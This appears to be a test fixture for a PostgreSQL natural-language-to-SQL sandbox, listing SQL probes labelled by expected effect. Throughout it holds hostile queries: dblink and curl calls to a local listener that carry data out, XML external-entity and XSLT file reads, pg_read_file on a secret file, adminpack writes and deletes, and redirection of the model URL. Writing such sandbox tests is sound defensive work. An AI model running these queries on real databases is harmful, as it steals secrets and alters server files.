-- connected: dblink to a listener
SELECT * FROM dblink('host=127.0.0.1 port=@PORT@ dbname=x user=x password=y connect_timeout=1', 'SELECT 1') AS t(a int)

-- connected: dblink_connect
SELECT dblink_connect('host=127.0.0.1 port=@PORT@ user=x password=y connect_timeout=1')

-- connected: dblink_exec
SELECT dblink_exec('host=127.0.0.1 port=@PORT@ user=x password=y connect_timeout=1', 'SELECT 1')

-- connected: dblink through a foreign server
SELECT dblink_connect('away')

-- connected: dblink with rows as the password, out of the database
SELECT dblink_connect(format('host=127.0.0.1 port=@PORT@ user=x password=%s connect_timeout=1', max(name))) FROM ship

-- connected: dblink as a field of a text
SELECT ('host=127.0.0.1 port=@PORT@ user=x password=y connect_timeout=1'::text).dblink_connect

-- connected: dblink_open, which opens a cursor there
SELECT dblink_open('host=127.0.0.1 port=@PORT@ user=x password=y connect_timeout=1', 'c', 'SELECT 1')

-- connected: a foreign table that the asker may read, of a server nobody meant
-- profile: public
SELECT dblink_get_connections(), f.* FROM far f WHERE dblink_connect('away') IS NULL

-- connected: XML with an external entity over the network
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1:@PORT@/">]><a>&e;</a>')

-- connected: XML with a document type over the network
SELECT '<!DOCTYPE a SYSTEM "http://127.0.0.1:@PORT@/x.dtd"><a/>'::xml

-- connected: XSLT with an import over the network
SELECT xslt_process('<a/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://127.0.0.1:@PORT@/"/></xsl:stylesheet>')

-- connected: XPath over a document that reads from the network
SELECT xpath('/a/text()', '<!DOCTYPE a [<!ENTITY e SYSTEM "http://127.0.0.1:@PORT@/">]><a>&e;</a>')

-- connected: COPY to a program
COPY (SELECT 1) TO PROGRAM 'curl http://127.0.0.1:@PORT@/'

-- connected: a subscription
CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port=@PORT@' PUBLICATION p

-- connected: a foreign server of the asker's making
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '@PORT@')

-- connected: the model's address is turned to another listener
-- direct: yes
UPDATE nl2sql.profile SET model_url = 'http://127.0.0.1:@PORT@/v1'

-- shows SECRET-FILE: a file
SELECT pg_read_file('@DIR@/secret.txt')

-- shows SECRET-FILE: a file by parts
SELECT pg_read_file('@DIR@/secret.txt', 0, 100)

-- shows 5345: a file in bytes
SELECT pg_read_binary_file('@DIR@/secret.txt')

-- shows SECRET-FILE: a file as a field of its name
SELECT ('@DIR@/secret.txt'::text).pg_read_file

-- shows SECRET-FILE: a file as a field of a column
SELECT t.pg_read_file FROM unnest(ARRAY['@DIR@/secret.txt']) t

-- shows SECRET-FILE: a file by adminpack
SELECT pg_catalog.pg_file_read('@DIR@/secret.txt', 0, 100)

-- shows secret.txt: a folder's names
SELECT pg_ls_dir('@DIR@')

-- shows pg_multixact: the data folder's names
SELECT string_agg(x, ' ') FROM pg_ls_dir('.') x

-- shows modification: a file's size and times
SELECT (pg_stat_file('@DIR@/secret.txt')).*

-- shows .log: the server's logs by name
SELECT * FROM pg_ls_logdir()

-- shows 0000: the write-ahead log by name
SELECT * FROM pg_ls_waldir()

-- answers true: temporary files by name
SELECT count(*) >= 0 FROM pg_ls_tmpdir()

-- shows SECRET-FILE: a file through COPY
COPY vault FROM '@DIR@/secret.txt'

-- shows SECRET-FILE: a file through a large object
SELECT convert_from(lo_get(lo_import('@DIR@/secret.txt')), 'UTF8')

-- shows SECRET-FILE: a file as an XML entity
SELECT xmlparse(document '<!DOCTYPE a [<!ENTITY e SYSTEM "file://@DIR@/secret.txt">]><a>&e;</a>')

-- shows SECRET-FILE: a file as an XML entity, through a cast
SELECT ('<!DOCTYPE a [<!ENTITY e SYSTEM "file://@DIR@/secret.txt">]><a>&e;</a>'::text)::xml::text

-- shows SECRET-FILE: a file through XPath of an extension
SELECT xpath_string('<!DOCTYPE a [<!ENTITY e SYSTEM "file://@DIR@/secret.txt">]><a>&e;</a>', '/a')

-- shows SECRET-FILE: a file through XSLT
SELECT xslt_process('<a/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(''@DIR@/secret.txt'')"/></xsl:template></xsl:stylesheet>')

-- shows SECRET-FILE: a file through a view
SELECT line FROM peek_file

-- shows SECRET-FILE: a foreign table over a file
SELECT * FROM note_file

-- shows SECRET-FILE: a file through a text search dictionary's template
SELECT ts_lexize('simple', 'x'), pg_read_file('@DIR@/secret.txt')

-- written: COPY to a file
COPY (SELECT 1) TO '@DIR@/pwned'

-- written: COPY to a program that writes
COPY (SELECT 1) TO PROGRAM 'touch @DIR@/pwned'

-- written: a large object to a file
SELECT lo_export(4242, '@DIR@/pwned')

-- written: a file by adminpack
SELECT pg_catalog.pg_file_write('@DIR@/pwned', 'x', false)

-- written: a file renamed by adminpack
SELECT pg_catalog.pg_file_rename('@DIR@/secret.txt', '@DIR@/pwned')

-- changed: a file removed by adminpack
SELECT pg_catalog.pg_file_unlink('@DIR@/secret.txt')

-- written: XSLT that writes a document
SELECT xslt_process('<a/>', '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:e="http://exslt.org/common" extension-element-prefixes="e"><xsl:template match="/"><e:document href="@DIR@/pwned"><b/></e:document></xsl:template></xsl:stylesheet>')

-- notified: a message to whoever listens
SELECT pg_notify('pwned', 'rows')

-- notified: NOTIFY
NOTIFY pwned, 'x'

-- notified: a message with rows in it
SELECT pg_notify('pwned', name) FROM ship

-- notified: a message by a planted function
SELECT tell()

-- notified: a message by a view
SELECT * FROM peek_tell

-- notified: a message by a policy
SELECT text FROM trapped WHERE id = 1

-- notified: a message in a WITH query that nobody reads
WITH a AS MATERIALIZED (SELECT pg_notify('pwned', 'x') AS n) SELECT 1 FROM a

-- notified: a message as a field
SELECT x.* FROM (SELECT 'pwned'::text AS c) q, LATERAL pg_notify(q.c, 'x') x

-- connected: a replication slot or a WAL message
SELECT pg_logical_emit_message(false, 'x', 'y'), pg_create_physical_replication_slot('s')

-- changed: a backup is begun
SELECT pg_backup_start('x')

-- changed: the log is rotated or the configuration read again
SELECT pg_rotate_logfile(), pg_reload_conf()
